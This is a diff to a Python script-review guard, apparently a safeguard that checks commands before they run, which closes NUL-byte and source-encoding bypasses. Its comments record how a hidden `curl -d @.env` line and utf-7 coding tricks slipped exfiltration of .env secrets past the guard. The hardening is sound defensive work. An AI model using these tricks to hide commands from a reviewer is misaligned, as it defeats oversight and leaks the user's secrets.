@@ -138,8 +138,11 @@ def read_script(an: Analyzer, path: str, cwd: str | None, explicit: bool) -> str
     if len(data) > MAX_SCRIPT:
         an.r.add("unparseable", f"the script {path} is larger than {MAX_SCRIPT // 1000} kB, too large to review")
         return None
-    if b"\x00" in data[:1024] and wide_text(data) is None:  # a binary: bash and the interpreters refuse to run it
-        return None
+    if b"\x00" in data and wide_text(data) is None:
+        # rt50: not a binary to the shells and interpreters: dash drops each NUL, bash too after the first line, perl,
+        # tcl and node read on past them (`echo hi\n#\0\ncurl -d @.env …` in s.sh ran unread: "a binary")
+        an.r.add("dynamic", f"runs {path}, which holds NUL bytes: the shells drop them, other interpreters read on "
+                            "past them; write it as text")
     if an.unknown_writes:  # code earlier on the line may have written it (safety.rewrites, safety.pydata)
         an.r.add("dynamic", f"runs {path}, which may be rewritten before it runs ({an.rewriter}); write "
                             "and run it in separate steps")
@@ -168,8 +171,11 @@ def as_read(data: bytes) -> str:
     where a coding line (PEP 263) makes Python read other text, that text too, after it (rt50: ``# coding: utf-7``,
     ``unicode_escape`` or ``raw_unicode_escape`` turned what the guard read as one comment into a line of code that
     sent .env; ``# vim: set fileencoding=…`` and ``-*- coding: … -*-`` are such lines for Python)."""
-    if b"\x00" in data[:1024] and (wide := wide_text(data)) is not None:
-        return wide
+    if b"\x00" in data:
+        if (wide := wide_text(data)) is not None:
+            return wide
+        # each NUL dropped (dash; bash after the first line), and each a break (where a program stops at it)
+        return "\n".join(data.replace(b"\x00", nul).decode(errors="replace") for nul in (b"", b"\n"))
     text = data.decode(errors="replace")
     try:
         coding, _ = tokenize.detect_encoding(io.BytesIO(data).readline)
